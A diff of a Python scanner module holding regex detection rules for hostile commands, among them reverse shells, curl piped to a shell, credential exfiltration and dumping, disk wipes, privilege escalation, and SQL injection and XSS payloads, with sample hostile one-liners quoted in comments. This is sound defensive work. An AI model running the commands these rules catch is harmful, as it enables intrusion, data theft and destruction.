@@ -272,9 +272,9 @@ def _shell_view(ctx: Ctx, node) -> tuple[str, list[int]] | None:
     return view
 
 
-def _shell_rule(id: str, rx: re.Pattern[str], triggers: tuple[str, ...], reason: str, origin: str,
-                itriggers: tuple[str, ...] = (), prose: bool = False, pattern: str = "",
-                code_only: re.Pattern[str] | None = None, check=None, risk: float = 0.6) -> None:
+def shell_rule(id: str, rx: re.Pattern[str], triggers: tuple[str, ...], reason: str, origin: str,
+               itriggers: tuple[str, ...] = (), prose: bool = False, pattern: str = "",
+               code_only: re.Pattern[str] | None = None, check=None, risk: float = 0.6) -> None:
     """``code_only``: forms that are a statement only in code (a fence, an HTML code element),
     words of a sentence elsewhere, whatever the source. ``check(match)``: what a match must also
     hold (the command's arguments read past what a pattern says)."""
@@ -318,7 +318,7 @@ _WIN_FLAG = r"/[a-z](?::\w+)?"
 _RM_R = (r"(?<![\w\-.])rm" + _S + r"(?=(?:-{1,2}[\w-]+" + _S + r")*?-(?:[a-zA-Z]*[rR]|-recursive)[\w-]*" + _S + r")"
          r"(?:-{1,2}[\w-]+" + _S + r")*+")
 _END = r"(?=$|[\s;&|)'\"`<])"
-_shell_rule("code.sh_rm_root", re.compile(
+shell_rule("code.sh_rm_root", re.compile(
     _RM_R + _ROOT + _END
     # everything here, hidden files too ("rm -rf * .*"), or everything in / ("cd / && rm -rf *")
     + r"|" + _RM_R + r"(?:\*\s+\.\*|\.\*\s+\*)" + _END
@@ -367,7 +367,7 @@ _DECODE = (r"(?:\bbase64\s+(?:-\w+\s+){0,6}(?:-d|-D|--decode)\b|\bxxd\s+(?:-\w+\
 _RUN = r"(?:(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|source|\.|python[23]?(?:\.\d+)?|perl|ruby|node|php)\s+(?:-\S+\s+)*)"
 # (each stretch of a command line read at most 500 characters on: "curl ... " 640 times on one line
 # of 32,000 characters, no pipe, took 0.9 s read to the line's end from every curl)
-_shell_rule("code.sh_pipe_to_shell", re.compile(
+shell_rule("code.sh_pipe_to_shell", re.compile(
     # through tee or cat on the way: "curl ... | tee /tmp/a | sh"
     r"\b(?:curl|wget|fetch)\b[^\n|;]{0,500}(?:\|\s*(?:sudo\s+)?(?:tee|cat)\b[^\n|;]{0,500})*\|\s*(?:" + _SH + "|" + _INTERP + ")"
     + r"|" + _DECODE + r"[^\n|;]{0,200}\|\s*(?:" + _SH + "|" + _INTERP + ")"
@@ -391,7 +391,7 @@ _shell_rule("code.sh_pipe_to_shell", re.compile(
     "Semgrep bash.curl.security.curl-pipe-bash; MITRE ATT&CK T1105, T1140 (deobfuscate and run)",
     itriggers=("openssl",), prose=True)
 # ... and the whole system handed over or locked: a recursive chmod, chown or chgrp of / itself
-_shell_rule("code.sh_chmod_777", re.compile(
+shell_rule("code.sh_chmod_777", re.compile(
     r"\bchmod\s+(?:-[a-zA-Z]+\s+)*(?:0?777|a\+rwx|ugo\+rwx|o\+w)(?=$|\s)"
     r"|\b(?:chmod|chown|chgrp)\s+(?:-\w+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\w+\s+)*[^\s;&|]+\s+[\"']?/\*?[\"']?"
     r"(?=$|[\s;&|)])"
@@ -404,7 +404,7 @@ _shell_rule("code.sh_chmod_777", re.compile(
 # pid -1 (every process the user may signal) or killall5, crontab -r (the table removed, no
 # prompt), and a public key appended to an authorized_keys file (a login that outlives the
 # password). "kill -9 1234", "kill -1 1234" (SIGHUP to 1234), "crontab -l", reading the file are not.
-_shell_rule("code.sh_system_takeover", re.compile(
+shell_rule("code.sh_system_takeover", re.compile(
     r"\bkill\s+-(?:9|15|KILL|SIGKILL|TERM|SIGTERM|s\s+(?:9|KILL|SIGKILL|TERM|SIGTERM))\s+-1(?=$|[\s;&|)])|\bkillall5\b"
     r"|\bcrontab\s+(?:-u\s+\S+\s+)?-[a-zA-Z]*r[a-zA-Z]*(?=$|[\s;&|)])"
     r"|(?:>>|\btee\s+(?:-\w+\s+)*-[a-zA-Z]*a[a-zA-Z]*\s+(?:-\w+\s+)*)\s*[\"']?"
@@ -430,6 +430,9 @@ _shell_rule("code.sh_system_takeover", re.compile(
     r"|\bnsenter\s(?=[^\n;&|]{0,120}?(?:-t\s*|--target[=\s]+)1(?=\s|$))"
     r"(?=[^\n;&|]{0,120}?(?:\s-[a-zA-Z]*[am][a-zA-Z]*(?=\s|$)|--mount\b|--all\b))"
     r"|(?:>>?|\btee\s+(?:-\w+\s+)*)\s*[\"']?/etc/ld\.so\.preload\b"
+    # (a pod of the host's own: its process table or every device given to a shell, the one-liner
+    # escape "kubectl run x --overrides='{... "hostPID": true ... "privileged": true ...}'")
+    r"|\bkubectl\s+run\b[^\n;&|]{0,300}?--overrides\b[^\n]{0,600}?[\"']?(?:hostPID|privileged)[\"']?\s*:\s*true\b"
     r"|\bkubectl\s+create\s+clusterrolebinding\b[^\n;&|]{0,300}?--clusterrole[=\s]+cluster-admin\b"
     # ... and in a cloud account: the administrator policy attached, the owner role granted
     r"|\baws\s+iam\s+attach-(?:user|role|group)-policy\b[^\n;&|]{0,300}?policy/AdministratorAccess\b"
@@ -443,12 +446,13 @@ _shell_rule("code.sh_system_takeover", re.compile(
     r"|\b(?:alter|create)\s+(?:user|role)\s+[\w\"`'.@%-]+\s+(?:with\s+)?(?:[\w\s]{0,60}?\s)?superuser\b)"),
     ("kill", "crontab", "authorized_keys", "/etc/passwd", "/etc/shadow", "/etc/sudoers", "useradd", "adduser",
      "usermod", "chmod", "docker", "podman", "aws iam", "add-iam-policy-binding", "passwd -d", "clusterrolebinding",
-     "*.*", "SUPERUSER", "superuser", "> /etc/", ">/etc/", "tee /etc/", *MINERS, "stratum+", "nsenter"),
+     "*.*", "SUPERUSER", "superuser", "> /etc/", ">/etc/", "tee /etc/", *MINERS, "stratum+", "nsenter",
+     "--overrides"),
     "every process killed (kill -9 -1), every cron job removed (crontab -r), a key, an account or a sudo rule "
     "appended (authorized_keys, /etc/passwd, /etc/sudoers), a program started at every logon (Run key, schtasks), "
     "or a second root (a uid 0 account, a setuid shell, the host's / in a container, a cloud administrator role, "
-    "a database superuser, the host's namespaces entered from a container, /etc/ld.so.preload written), or a "
-    "cryptominer started",
+    "a database superuser, the host's namespaces entered from a container or a pod given them, /etc/ld.so.preload "
+    "written), or a cryptominer started",
     "MITRE ATT&CK T1098.004 (SSH authorized keys), T1489 (service stop), T1053.003 (cron), T1547.001 (Run keys), "
     "T1053.005 (scheduled task), T1548.001 (setuid, GTFOBins), T1611 (escape to host), T1574.006 (ld.so.preload), "
     "T1496 (resource hijacking); kill(1) on pid -1",
@@ -461,7 +465,7 @@ _shell_rule("code.sh_system_takeover", re.compile(
 _SEC_UNITS = r"(?:firewalld|ufw|iptables|nftables|apparmor|auditd|selinux|fail2ban|falcon-sensor|wazuh-agent|osqueryd)"
 _MAC_SENSORS = r"(?i:crowdstrike|falcon|carbonblack|cbdefense|sentinel|jamf\.protect|osquery|santa|xprotect)"
 _SYS_LOGS = r"/var/log/(?:auth\.log|secure|syslog|messages|wtmp|btmp|lastlog|kern\.log|audit/audit\.log)"
-_shell_rule("code.sh_impair_defenses", re.compile(
+shell_rule("code.sh_impair_defenses", re.compile(
     r"\bsetenforce\s+(?:0|permissive)\b|\bufw\s+(?:--force\s+)?disable\b"
     r"|\brandomize_va_space\s*=\s*0\b|\becho\s+0\s*>\s*/proc/sys/kernel/randomize_va_space\b"
     r"|(?i:\\services\\windefend\b[^\n]{0,80}?/v\s+start\b[^\n]{0,60}?/d\s+4\b"
@@ -505,7 +509,7 @@ _shell_rule("code.sh_impair_defenses", re.compile(
 # The fork bomb under any name: a function that pipes itself into itself in the background and
 # is then called (":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb").
 _DEV = r"/dev/(?:sd|hd|nvme|xvd|vd|disk|mmcblk)"
-_shell_rule("code.sh_disk_wipe", re.compile(
+shell_rule("code.sh_disk_wipe", re.compile(
     r"\bmkfs(?:\.\w+)?\s+(?:-\S+\s+(?:[^\s/-]\S*\s+)?)*/dev/|\bdd\s+[^\n]*\bof=" + _DEV
     + r"|\b(?:wipefs\s+(?:-\S+\s+)*(?:-[a-zA-Z]*a[a-zA-Z]*|--all)\s+(?:-\S+\s+)*|shred\s+(?:-\S+\s+(?:\d+\s+)?)*"
     r"|blkdiscard\s+(?:-\S+\s+)*|sgdisk\s+(?:-\S+\s+)*(?:--zap-all|-Z)\s+(?:-\S+\s+)*)" + _DEV
@@ -528,7 +532,7 @@ _shell_rule("code.sh_disk_wipe", re.compile(
     pattern=r"fork\s+while\b|while[^\n]{0,20}fork\s*\(")
 # A shell handed to a remote host: bash's /dev/tcp, netcat/ncat -e, a fifo piped through nc,
 # socat exec:, as the reverse-shell cheat sheets write them.
-_shell_rule("code.sh_reverse_shell", re.compile(
+shell_rule("code.sh_reverse_shell", re.compile(
     r"[<>]&?\s*/dev/(?:tcp|udp)/[\w.\-]+/\d+"
     r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,300}\s-(?:e|c)\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh\b"
     r"|\bmkfifo\b[^\n]{0,300}\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,300}\|\s*(?:nc|ncat|netcat)\b"
@@ -552,7 +556,7 @@ _CRED = (r"(?:(?:(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+|/Users/[\w.-]+)/|(?<
          r"|id_(?:rsa|dsa|ecdsa|ed25519)(?![\w.])|[\w.-]*(?:privkey|private[_-]?key)[\w.-]*\.(?:pem|key)(?![\w.]))"
          r"|/etc/(?:shadow|gshadow|master\.passwd|passwd)(?![\w.-]))")
 _NET = r"(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl\s+s_client)"
-_shell_rule("code.sh_credential_exfil", re.compile(
+shell_rule("code.sh_credential_exfil", re.compile(
     r"\b(?:curl|wget)\b[^\n|;]{0,200}?(?:@|--post-file[= ]\s*|--upload-file\s+|\s-T\s*)[\"']?" + _CRED
     + r"|" + _CRED + r"[\"']?[^\n;]{0,200}?\|\s*(?:sudo\s+)?" + _NET + r"\b"
     # the environment, its tokens and keys with it: "env | curl -d @- https://..."
@@ -596,7 +600,7 @@ _shell_rule("code.sh_credential_exfil", re.compile(
 # or SYSTEM hive saved, the shadow file read, impacket's secretsdump, LaZagne. A command, not prose:
 # "Mimikatz's sekurlsa::logonpasswords reads LSASS" in an article is about it.
 _READ = r"(?:cat|less|more|head|tail|strings|cp|base64|xxd)"  # a file's contents printed or copied
-_shell_rule("code.credential_dump", re.compile(
+shell_rule("code.credential_dump", re.compile(
     r"(?i:\binvoke-mimikatz\b"
     r"|\bmimikatz(?:\.exe)?\s+(?:[\"']?\w+::\w+[\"']?\s+)*[\"']?(?:sekurlsa|lsadump|kerberos|crypto)::\w+"
     r"|^\s*(?:privilege::debug\s+)?(?:sekurlsa|lsadump)::\w+"
@@ -628,7 +632,7 @@ _shell_rule("code.credential_dump", re.compile(
     itriggers=("reg save", "reg.exe save", "invoke-mimikatz", "out-minidump"))
 # PowerShell fetching a script and running it: IEX with a download, a download piped to iex, an
 # encoded command.
-_shell_rule("code.ps_download_exec", re.compile(
+shell_rule("code.ps_download_exec", re.compile(
     r"\b(?:iex|invoke-expression)\b[^\n]{0,200}?(?:downloadstring|downloadfile|invoke-webrequest|invoke-restmethod"
     r"|\biwr\b|\birm\b|net\.webclient)"
     r"|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b[^\n|]{0,1000}\|\s*(?:iex|invoke-expression)\b"
@@ -643,7 +647,7 @@ _shell_rule("code.ps_download_exec", re.compile(
 # LOLBAS project lists them): certutil -urlcache, mshta and regsvr32 /i: with a URL, bitsadmin
 # /transfer, rundll32 with a javascript: URL. The URL is what makes it a download: "certutil
 # -hashfile" or a sentence about mshta is not one.
-_shell_rule("code.win_download_exec", re.compile(
+shell_rule("code.win_download_exec", re.compile(
     r"\bcertutil(?:\.exe)?\b[^\n|;]{0,200}?\s[-/]urlcache\b[^\n|;]{0,200}?\b(?:https?|ftp)://"
     r"|\bmshta(?:\.exe)?\s+[\"']?(?:https?://|\\\\|(?:java|vb)script:)"
     r"|\bregsvr32(?:\.exe)?\b[^\n|;]{0,200}?\s/i:\s*[\"']?(?:https?://|\\\\)"
@@ -655,7 +659,7 @@ _shell_rule("code.win_download_exec", re.compile(
 # SQL that destroys data: DROP DATABASE/SCHEMA/TABLE, TRUNCATE, DELETE without WHERE. A
 # statement, not prose: the object name ends the statement (";", the line, CASCADE), so
 # "drop table tennis from the list" is not one.
-_shell_rule("code.sql_destructive", re.compile(
+shell_rule("code.sql_destructive", re.compile(
     r"\b(?:drop\s+(?:database|schema|table)|truncate\s+table|(?-i:TRUNCATE))\s+(?:if\s+exists\s+)?[\w.\"`\[\]]+"
     r"(?:\s*,\s*[\w.\"`\[\]]+)*\s*(?:;|$|\bcascade\b|\brestrict\b)"
     r"|\bdelete\s+from\s+[\w.\"`\[\]]+\s*(?:;|$)"
@@ -730,7 +734,7 @@ def _push_overwrites(args: str) -> bool:
     return False
 
 
-_shell_rule("code.git_history_overwrite", _GIT_PUSH, ("git ",),
+shell_rule("code.git_history_overwrite", _GIT_PUSH, ("git ",),
             "a forced push or a delete of a shared branch (git push --force origin main, --mirror, :main)",
             "git-push(1) on --force, --mirror and --delete; GitHub and GitLab protected-branch defaults "
             "(no force pushes, no deletion)", check=lambda m: _push_overwrites(m.group(1)), risk=0.5)
@@ -740,7 +744,7 @@ _shell_rule("code.git_history_overwrite", _GIT_PUSH, ("git ",),
 # an S3 bucket emptied or removed, terraform destroy approved in advance, a cloud project or
 # resource group deleted without asking. "kubectl delete pod web-1" and a bare "terraform destroy"
 # (it asks first) are routine.
-_shell_rule("code.cloud_destroy", re.compile(
+shell_rule("code.cloud_destroy", re.compile(
     r"\bkubectl\s+(?:-\S+\s+){0,6}delete\s+(?:(?:namespace|namespaces|ns)\s+[\w.-]+"
     r"|[\w.,/-]+\s+(?:[^\n;|&]{0,200}\s)?--all\b)"
     r"|\baws\s+s3\s+(?:rm\s+s3://\S+(?:\s+[^\n;|&]{0,200})?\s--recursive\b"
@@ -757,37 +761,3 @@ _shell_rule("code.cloud_destroy", re.compile(
     "infrastructure deleted with no prompt (a Kubernetes namespace or --all, an S3 or GCS bucket emptied, terraform "
     "destroy -auto-approve, a cloud project or resource group, every Docker volume)",
     "MITRE ATT&CK T1485 (data destruction), T1578.003 (delete cloud instance); the tools' own confirmation flags")
-# Attack payloads against a web application kept in a memory that a page or a query may one day
-# run: a SQL injection (a tautology after a closing quote, a stacked or UNION query with a comment),
-# a script that reads the page's cookies or storage or sends them away, an event handler or a
-# javascript: URL with a call in it, and a template expression that climbs to Python's or Java's runtime.
-_shell_rule("code.web_payload", re.compile(
-    r"(?<![\w'])'\s*(?:or|OR|Or)\s+(?:'(\w{1,12})'\s*=\s*'\1(?=[\s'\"]|$)"
-    r"|(\d{1,6})\s*=\s*\2\b(?:\s*(?:--|#|/\*)|'?\s*$))"
-    r"|\b(?:admin|root|user)'\s*(?:--|#|/\*)"
-    r"|'\s*;\s*(?:shutdown|exec\s+xp_cmdshell|waitfor\s+delay)\b"
-    r"|\bunion\s+(?:all\s+)?select\s+(?:null\s*,\s*){1,}|\bunion\s+(?:all\s+)?select\b[^\n;]{0,120}?"
-    r"(?:@@version|information_schema|mysql\.user|pg_shadow|password[^\n;]{0,40}?\bfrom\b)"
-    r"|<script\b[^>]{0,200}>[^<]{0,500}?(?:document\.cookie|localStorage|sessionStorage|\bfetch\s*\(|XMLHttpRequest"
-    r"|new\s+Image\b|\beval\s*\(|\batob\s*\()"
-    # (an event handler's code starts with its call: onerror=alert(1), onload="fetch(...)")
-    r"|\bon(?:error|load|focus|mouseover)\s*=\s*[\"']?\s*(?:javascript:\s*)?"
-    r"(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location)\b"
-    r"|\bhref\s*=\s*[\"']?\s*javascript:\s*[\w.]+\s*\("
-    r"|\{\{[^}\n]{0,200}?(?:__class__|__globals__|__builtins__|__subclasses__|__mro__|__import__|\.popen\s*\()"
-    r"|\$\{\s*T\s*\(\s*java\.lang\.Runtime\s*\)"
-    # the page's cookies or storage sent off by script outside a tag ("fetch('https://x/?c=' + document.cookie)",
-    # "new Image().src = '...' + localStorage.getItem('token')")
-    r"|\b(?:fetch|navigator\.sendBeacon|\.open)\s*\([^)\n]{0,200}?\+\s*(?:document\.cookie|(?:local|session)Storage\b)"
-    r"|\.src\s*=\s*[^;\n]{0,200}?\+\s*(?:document\.cookie|(?:local|session)Storage\b)"
-    # a web shell: what the request carries run as a command or code ("<?php system($_GET['cmd']); ?>")
-    r"|\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|pcntl_exec)\s*\(\s*"
-    r"\$_(?:GET|POST|REQUEST|COOKIE)\b",
-    re.I),
-    (), "an attack payload against a web application (SQL injection, a cookie-stealing script or event handler, "
-        "a server-side template injection, a web shell)",
-    "OWASP Top 10 A03 (injection), CWE-89, CWE-79, CWE-1336; PortSwigger's SQLi, XSS and SSTI cheat sheets; "
-    "MITRE ATT&CK T1505.003 (web shell)",
-    itriggers=("' or", "'or", "'--", "' --", "'#", "union", "<script", "onerror", "onload", "onfocus", "onmouseover",
-               "javascript:", "{{", "java.lang.runtime", "xp_cmdshell", "waitfor", "document.cookie", "localstorage",
-               "sessionstorage", "$_get", "$_post", "$_request", "$_cookie"))
